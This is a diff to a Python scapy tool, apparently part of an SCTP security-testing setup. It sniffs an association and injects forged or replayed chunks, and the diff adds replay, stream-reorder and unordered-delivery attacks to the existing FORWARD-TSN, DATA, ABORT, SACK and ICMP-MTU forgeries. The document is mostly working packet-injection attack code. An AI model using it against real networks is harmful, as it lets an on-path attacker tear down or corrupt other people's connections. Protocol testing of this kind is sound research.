@@ -1,7 +1,8 @@
 #!/usr/bin/python3
 # sctp-forge: an attacker on the path forges chunks into an association it
-# watches, with scapy: the seeds' attacks T2 (FORWARD-TSN), T3 (DATA),
-# T4 (ABORT, SHUTDOWN) and a forged SACK.
+# watches, with scapy: the seeds' attacks T1 (a DATA chunk moved to
+# another stream or made unordered), T2 (FORWARD-TSN), T3 (DATA), T4
+# (ABORT, SHUTDOWN), a forged SACK and a replayed packet.
 #
 #   sctp-forge.py IFACE DPORT MODE...
 #	sniff IFACE for an association set up to port DPORT: its INIT and
@@ -19,6 +20,13 @@
 #	            taken for duplicates and dropped
 #	  sack      a SACK acknowledging 8 TSNs past the initiator's last:
 #	            TSNs never sent (Linux aborts on that)
+#	  replay    the responder's last packet with DATA, as it was (its
+#	            AUTH chunk, if any, still right; the TSN a duplicate)
+#	  reorder   its first DATA chunk (after the packet's AUTH chunk, as
+#	            it was) moved to another stream (SID xor 1) with the TSN
+#	            after the last one seen: the seeds' T1
+#	  ubit      the same chunk with the TSN after the last and the U bit
+#	            set (delivered unordered): T1
 #	  icmp-mtu     an ICMP "fragmentation needed" (MTU 296) for the
 #	               initiator's packets to the responder (IPv4; the seeds'
 #	               T14), from the responder's address
@@ -130,6 +138,7 @@ def watch(p):
                 payload in c:
             pass	# our own forgery, seen by the sniffer too
         elif ctype == 0 and "initack" in st and s.sport == dport:
+            st["lastraw"] = raw
             tsn = struct.unpack("!I", c[4:8])[0]
             if st["tsn"] is None or tsn > st["tsn"]:
                 st["tsn"] = tsn
@@ -178,7 +187,32 @@ if "genuine" in st:
 net = IPv6 if ":" in csrc else IP
 
 
+def genuine(kind):
+    """The responder's last packet with DATA: as it was (replay), or its
+    AUTH chunk, if any, and its first DATA chunk, rewritten (T1)."""
+    raw = st["lastraw"]
+    if kind == "replay":
+        return raw
+    auth = b""
+    for ctype, flags, c in chunks(raw):
+        if ctype == 0x0f:
+            auth = raw[raw.index(c):raw.index(c) + ((len(c) + 3) & ~3)]
+        if ctype != 0:
+            continue
+        d = bytearray(c + b"\0" * (-len(c) & 3))
+        struct.pack_into("!I", d, 4, (st["tsn"] + 1) & 0xffffffff)
+        if kind == "reorder":
+            sid = struct.unpack("!H", bytes(d[8:10]))[0]
+            struct.pack_into("!H", d, 8, sid ^ 1)
+        else:
+            d[1] |= 0x04
+        return auth + bytes(d)
+    raise SystemExit("no DATA chunk of the responder's to rewrite")
+
+
 def chunk(kind):
+    if kind in ("replay", "reorder", "ubit"):
+        return genuine(kind)
     tsn = (st["tsn"] + 1) & 0xffffffff
     ctsn = st["ctsn"] if st["ctsn"] is not None else 0
     if kind == "data":
@@ -218,7 +252,7 @@ for i, mode in enumerate(modes):
         time.sleep(2)
         continue
     body = chunk(kind)
-    if how == "auth0":
+    if how == "auth0" and kind not in ("replay", "reorder", "ubit"):
         auth = struct.pack("!BBHHH", 0x0f, 0, 8 + hlen, 0, hid)
         mac = hmac.new(secret, auth + b"\0" * hlen + body, digest).digest()
         body = auth + mac + body
